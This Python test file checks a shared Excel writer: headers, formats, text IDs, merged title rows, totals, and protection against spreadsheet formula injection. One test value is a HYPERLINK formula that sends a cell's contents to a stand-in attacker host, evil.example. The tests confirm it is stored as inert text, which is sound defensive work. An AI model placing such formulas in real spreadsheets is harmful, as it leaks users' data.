"""The one Excel writer (core.xlsx): every sheet the system writes gets the same header, formats and totals."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from core.xlsx import Column, Kind, Sheet, workbook_bytes
from tests.worlds.excel import libreoffice_sheets

COLUMNS = (
    Column("户编号", 20, Kind.ID),
    Column("日期", 12, Kind.DATE),
    Column("金额", 16, Kind.MONEY),
    Column("人数", 8, Kind.INT),
    Column("说明", 30),
)


def _written(above=()):
    workbook = Workbook(write_only=True)
    sheet = Sheet(workbook, "台账", COLUMNS, above=above)
    sheet.append(["640324100201000001", datetime.date(2026, 11, 23), Decimal("1234.50"), 3, "甲"])
    sheet.append([640324100201000002, None, Decimal("0.01"), 2, ""])
    sheet.append_totals()
    return load_workbook(io.BytesIO(workbook_bytes(workbook)))["台账"]


def test_header_formats_text_ids_and_running_totals():
    sheet = _written()
    assert [c.value for c in sheet[1]] == [c.header for c in COLUMNS]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 20
    first = sheet[2]
    assert (first[0].value, first[0].number_format) == ("640324100201000001", "@")
    assert first[1].number_format == "yyyy-mm-dd"
    assert first[2].number_format == "#,##0.00"
    assert sheet["A3"].value == "640324100201000002"  # a number given for an ID column is written as text
    totals = [c.value for c in sheet[4]]
    assert totals[0] == "合计"
    assert Decimal(str(totals[2])) == Decimal("1234.51")
    assert totals[3] == 5
    assert totals[1] is None  # dates are not totalled
    assert totals[4] is None  # nor is text


def test_lines_above_the_header_are_merged_and_the_panes_freeze_below_it():
    sheet = _written(above=("某县监测对象台账", "填报单位：某县"))
    assert {str(r) for r in sheet.merged_cells.ranges} == {"A1:E1", "A2:E2"}
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A4"
    assert [c.value for c in sheet[3]] == [c.header for c in COLUMNS]


def test_given_totals_are_written_as_they_are():
    workbook = Workbook(write_only=True)
    sheet = Sheet(workbook, "资金", COLUMNS)
    sheet.append_totals(["合计", "", Decimal("99.99"), 7, ""])
    (row,) = load_workbook(io.BytesIO(workbook_bytes(workbook)))["资金"].iter_rows(min_row=2, values_only=True)
    assert row[0] == "合计"
    assert Decimal(str(row[2])) == Decimal("99.99")
    assert row[3] == 7


HYPERLINK = '=HYPERLINK("http://evil.example/?id="&A2,"详情")'


@pytest.mark.parametrize("text", [HYPERLINK, "=1+1", "+86 139", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_a_spreadsheet_would_run_is_written_as_inert_text(text):
    """OWASP formula injection: a text cell starting with = + - @, tab or CR is text with the quote prefix, in a
    text column and in an ID column, whose other cells keep their style."""
    workbook = Workbook(write_only=True)
    sheet = Sheet(workbook, "台账", COLUMNS)
    sheet.append([text, None, None, None, text])
    sheet.append(["640324100201000001", None, None, None, "甲"])
    cells = load_workbook(io.BytesIO(workbook_bytes(workbook)))["台账"]
    for cell in (cells["A2"], cells["E2"]):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert cells["A2"].number_format == "@"
    assert not cells["A3"].quotePrefix  # the ID column's shared style is untouched
    assert not cells["E3"].quotePrefix


def test_libreoffice_shows_an_injected_hyperlink_as_its_text_and_runs_nothing(tmp_path):
    workbook = Workbook(write_only=True)
    Sheet(workbook, "台账", COLUMNS).append(["640324100201000001", None, None, None, HYPERLINK])
    (sheet,) = libreoffice_sheets(workbook_bytes(workbook), tmp_path).values()
    assert sheet[1][4] == HYPERLINK  # as typed, not the link's label 详情
